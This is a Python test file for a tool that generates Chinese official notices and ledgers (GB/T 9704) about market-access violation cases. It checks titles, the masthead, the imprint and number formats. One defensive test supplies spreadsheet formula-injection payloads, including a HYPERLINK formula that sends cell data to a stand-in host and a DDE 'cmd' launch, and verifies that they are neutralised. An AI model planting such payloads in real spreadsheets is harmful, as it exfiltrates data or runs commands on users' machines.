"""Notices as official documents (GB/T 9704): 版头 and 版记 through the command line, titles, the action asked
for by the case's status, the ledger's figures as numbers, and formula injection neutralised in .xlsx and CSV."""
import datetime as dt
import re

import pytest
from docx import Document
from docx.oxml.ns import qn

from cases import importer, sample, scan, store
from cases.model import CaseRecord
from engine.cli import main
from reports.case_notice import build_notice, notice_title, requirement

DAY = dt.date(2026, 10, 10)


def case(**kw) -> CaseRecord:
    base = dict(case_id="QH2026-09999", region="青禾市石门县", unit="石门县商务局", channel="投诉举报",
                received_date=dt.date(2026, 8, 3), description="要求外地企业在本县设立分公司方可参与招标",
                document="石门县招商引资若干措施", category="C2")
    base.update(kw)
    return CaseRecord(**base)


@pytest.mark.parametrize("kw, title", [
    (dict(verify_status="属实", rectify_status="整改中"), "关于青禾市石门县商务局违规另设市场准入限制性条件问题的通报"),
    (dict(verify_status="待核查"), "关于青禾市石门县商务局涉嫌违规另设市场准入限制性条件问题的通报"),
    (dict(verify_status="核查中"), "关于青禾市石门县商务局涉嫌违规另设市场准入限制性条件问题的通报"),
    (dict(verify_status="不属实", rectify_status="无需整改"),
     "关于青禾市石门县商务局涉嫌违规另设市场准入限制性条件问题核查情况的通报"),
    (dict(verify_status="属实", rectify_status="已整改", channel="自查自纠"),
     "关于青禾市石门县主动核查整改商务局违规另设市场准入限制性条件问题情况的通报"),
    (dict(verify_status="待核查", category=""), "关于青禾市石门县商务局涉嫌违背市场准入负面清单问题的通报"),
])
def test_titles_end_as_notice_titles(kw, title):
    got = notice_title(case(**kw))
    assert got == title and got.endswith("的通报") and "问题问题" not in got and "涉嫌涉嫌" not in got


def test_the_action_follows_the_status():
    pending = requirement(case(verify_status="待核查", rectify_deadline=dt.date(2026, 9, 1)), "青禾市发展和改革委员会")
    assert "核查" in pending and "限期" not in pending and "完成整改" not in pending
    confirmed = requirement(case(verify_status="属实", rectify_deadline=dt.date(2026, 11, 1)), "青禾市发展和改革委员会")
    assert "2026年11月1日前完成整改" in confirmed
    doc = build_notice(case(verify_status="待核查"), date=DAY)
    text = "\n".join(str(b[1]) for b in doc.blocks if b[0] == "para")
    assert "尚待核查" in text and "限期完成整改" not in text and "整改期限" not in text


def _paragraphs(path):
    d = Document(str(path))
    return d, [p.text for p in d.paragraphs]


@pytest.fixture(scope="module")
def register(tmp_path_factory):
    d = tmp_path_factory.mktemp("official")
    src = d / "sample.csv"
    sample.write(src, sample.generate(), encoding="gb18030")
    db = str(d / "cases.db")
    conn = store.connect(db)
    importer.import_file(src, conn)
    scan.scan(conn, None, None, "全部", as_of=DAY)
    pending = conn.execute("SELECT case_id FROM cases WHERE verify_status = '待核查' ORDER BY case_id LIMIT 1").fetchone()[0]
    conn.close()
    return {"db": db, "dir": d, "pending": pending}


OFFICIAL = ["--doc-number", "青发改体改〔2026〕18号", "--cc", "省发展改革委，市市场监管局", "--printer",
            "青禾市发展和改革委员会办公室", "--print-date", "2026-10-12", "--date", "2026-10-10"]


@pytest.mark.parametrize("kind", ["case", "monthly", "quarterly"])
def test_masthead_and_imprint_from_the_command_line(register, kind):
    out = register["dir"] / f"{kind}.docx"
    args = {"case": ["report", "case", register["pending"]], "monthly": ["report", "monthly", "--month", "2026-08"],
            "quarterly": ["report", "quarterly", "--quarter", "2026Q3"]}[kind]
    assert main(args + ["--db", register["db"], "-o", str(out)] + OFFICIAL) == 0
    d, paras = _paragraphs(out)
    # 版头: the organ's mark in red 小标宋, the 文号 centred over the red separator, then the title
    mark = d.paragraphs[0]
    assert mark.text == "青禾市发展和改革委员会文件"
    assert str(mark.runs[0].font.color.rgb) == "FF0000"
    assert mark.runs[0]._element.rPr.find(qn("w:rFonts")).get(qn("w:eastAsia")) == "方正小标宋简体"
    assert paras[3] == "青发改体改〔2026〕18号"
    bottom = d.paragraphs[3]._p.pPr.find(qn("w:pBdr")).find(qn("w:bottom"))
    assert bottom.get(qn("w:color")) == "FF0000"
    title = paras[5]
    assert title.startswith("关于") and title.endswith("的通报")
    # 版记: last, 抄送 then 印发机关 and 印发日期, between rules; after the signature and any 附件
    cc, printer = d.paragraphs[-2], d.paragraphs[-1]
    assert cc.text == "抄送：省发展改革委，市市场监管局。"
    assert printer.text == "青禾市发展和改革委员会办公室\t2026年10月12日印发"
    assert cc._p.pPr.find(qn("w:pBdr")).find(qn("w:top")).get(qn("w:sz")) == "8"       # thick first rule
    assert printer._p.pPr.find(qn("w:pBdr")).find(qn("w:bottom")).get(qn("w:sz")) == "8"  # thick last rule
    assert paras.index("2026年10月10日") < len(paras) - 2                                 # signature before the 版记
    if kind == "case":
        assert "涉嫌" in title and not any("限期完成整改" in p for p in paras)


def test_without_a_number_the_numero_is_left_to_fill_in(register):
    out = register["dir"] / "blank.docx"
    assert main(["report", "case", register["pending"], "--db", register["db"], "-o", str(out), "--date",
                 "2026-10-10"]) == 0
    _, paras = _paragraphs(out)
    assert paras[3] == "〔2026〕　号" and paras[-1] == "青禾市发展和改革委员会办公室\t2026年10月10日印发"


def test_html_and_markdown_carry_masthead_and_imprint(register):
    for suffix in (".html", ".md"):
        out = register["dir"] / f"q{suffix}"
        assert main(["report", "quarterly", "--quarter", "2026Q3", "--db", register["db"], "-o", str(out),
                     "--no-charts"] + OFFICIAL) == 0
        text = out.read_text(encoding="utf-8")
        text = text[text.index("<body>"):] if suffix == ".html" else text   # past <title>
        assert text.index("青禾市发展和改革委员会文件") < text.index("青发改体改〔2026〕18号") < text.index("关于2026年第三季度")
        assert text.rindex("抄送：省发展改革委，市市场监管局。") > text.rindex("2026年10月10日")
        assert "2026年10月12日印发" in text


def test_bad_print_date_is_one_line(register, capsys):
    out = register["dir"] / "x.docx"
    assert main(["report", "case", register["pending"], "--db", register["db"], "-o", str(out),
                 "--print-date", "明天"]) == 2
    err = capsys.readouterr().err
    assert "印发日期" in err and "Traceback" not in err


def test_ledger_figures_are_numbers_with_number_formats(register):
    from openpyxl import load_workbook

    out = register["dir"] / "q.xlsx"
    assert main(["report", "quarterly", "--quarter", "2026Q3", "--db", register["db"], "-o", str(out),
                 "--date", "2026-10-10"]) == 0
    wb = load_workbook(out)
    for name, cols in (("分类别", ("变化", "占比")), ("分地区", ("变化", "整改率")), ("分渠道", ("变化", "占比"))):
        ws = wb[name]
        header = [c.value for c in ws[1]]
        for col in cols:
            i = header.index(col)
            cells = [row[i] for row in ws.iter_rows(min_row=2) if row[i].value not in (None, "—")]
            assert cells, (name, col)
            assert all(isinstance(c.value, (int, float)) for c in cells), (name, col, [c.value for c in cells])
            fmt = {c.number_format for c in cells}
            assert fmt == ({"0.0%"} if col != "变化" else {"+0;-0;0"}), (name, col, fmt)
        if name == "分类别":   # shares add up to one, changes to this quarter minus the last
            share = header.index("占比")
            assert sum(r[share] for r in ws.iter_rows(min_row=2, values_only=True)
                       if isinstance(r[share], float)) == pytest.approx(1.0)
            cur, prev, change = header.index("本期"), header.index("上期"), header.index("变化")
            assert all(r[change] == r[cur] - r[prev] for r in ws.iter_rows(min_row=2, values_only=True))


def test_formula_injection_is_neutralised_in_the_ledger(tmp_path):
    from openpyxl import load_workbook

    from reports.case_ledger import write_ledger

    evil = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
    cases = [case(case_id=f"QH2026-{i:05}", unit=v, description=v) for i, v in enumerate(evil)]
    cases.append(case(case_id="QH2026-77777", unit="石门县商务局", description="正常描述"))
    out = write_ledger(cases, tmp_path / "台账.xlsx")
    ws = load_workbook(out)["案例台账"]
    header = [c.value for c in ws[1]]
    unit, desc = header.index("涉及单位"), header.index("问题描述")
    rows = list(ws.iter_rows(min_row=2))
    for row, v in zip(rows, evil):
        for cell in (row[unit], row[desc]):
            assert cell.data_type == "s" and cell.value.endswith(v[1:])   # a string, as typed (\r reads as _x000D_)
            assert cell.quotePrefix, (v, cell.coordinate)
    assert not rows[-1][unit].quotePrefix   # ordinary text is left alone
    # and the raw sheet has no formula at all
    import zipfile
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and 'quotePrefix="1"' in zipfile.ZipFile(out).read("xl/styles.xml").decode("utf-8")


def test_csv_safe():
    from reports.case_xlsx import csv_safe

    assert [csv_safe(v) for v in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "正常", "", 3)] == \
        ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "正常", "", 3]
